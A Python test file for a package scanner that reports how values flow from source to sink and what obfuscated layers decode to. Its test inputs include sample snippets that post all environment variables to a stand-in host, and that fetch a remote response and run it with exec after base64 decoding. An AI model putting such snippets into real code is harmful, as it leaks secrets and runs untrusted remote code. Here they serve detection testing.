"""The way of a value from source to sink, and the decoded layers, as a report shows them."""

from __future__ import annotations

import base64
import zlib

from support.scan import finding_of, scan_import
from wheelmark.scan import Finding, StepKind

SOURCE, TRANSFORM, SINK = StepKind.SOURCE, StepKind.TRANSFORM, StepKind.SINK


def way(finding: Finding) -> list[tuple[StepKind, str, int]]:
    return [(step.kind, step.what, step.line) for step in finding.flow]


def test_environment_that_is_sent_shows_its_way() -> None:
    report = scan_import(
        "import os, requests\nx = dict(os.environ)\nrequests.post('https://x.example.invalid', json=x)"
    )
    assert way(finding_of(report, "secrets-sent")) == [(SOURCE, "os.environ", 2), (SINK, "requests.post", 3)]


def test_decoders_stand_in_the_order_in_which_they_are_applied() -> None:
    blob = zlib.compress(base64.b64encode(b"print('imitation')"))
    report = scan_import(f"import base64, zlib\nexec(base64.b64decode(zlib.decompress({blob!r})))")
    assert way(finding_of(report, "decoded-code-executed")) == [
        (TRANSFORM, "zlib.decompress", 2),  # not in the order of their names
        (TRANSFORM, "base64.b64decode", 2),
        (SINK, "exec", 2),
    ]
    (layer,) = report.layers
    assert layer.decoders == ("zlib.decompress", "base64.b64decode")
    assert (layer.text, layer.depth, layer.member, layer.line) == ("print('imitation')", 1, "widget/__init__.py", 2)


def test_response_that_is_executed_shows_source_and_decoder() -> None:
    report = scan_import(
        "import base64, requests\nt = requests.get('https://x.example.invalid').text\nexec(base64.b64decode(t))"
    )
    assert way(finding_of(report, "response-executed")) == [
        (SOURCE, "requests.get", 2),
        (TRANSFORM, "base64.b64decode", 3),
        (SINK, "exec", 3),
    ]


def test_finding_without_known_origin_has_no_flow() -> None:
    report = scan_import("import requests\nrequests.get('https://x.example.invalid')")
    assert finding_of(report, "import-network").flow == ()


def test_layers_are_few_short_and_safe_to_show() -> None:
    blobs = [base64.b64encode(f"x = '{'a' * 5000}'\x1b # {n}".encode()).decode() for n in range(14)]
    body = "\n".join(f"exec(base64.b64decode('{blob}'))" for blob in blobs)
    layers = scan_import("import base64\n" + body).layers
    assert len(layers) == 1  # all alike as far as they are shown
    assert len(layers[0].text) == 2000
    many = [base64.b64encode(f"x{n} = 1\x1b".encode()).decode() for n in range(14)]
    layers = scan_import("import base64\n" + "\n".join(f"exec(base64.b64decode('{each}'))" for each in many)).layers
    assert len(layers) == 10
    assert all(layer.text.endswith("\\u001b") for layer in layers)


def test_a_thousand_decodings_make_a_bounded_flow() -> None:
    source = "import base64\nx = input()\n" + "x = base64.b64decode(x)\n" * 1000 + "exec(x)"
    finding = finding_of(scan_import(source), "decoded-code-executed")
    assert len(finding.flow) == 11
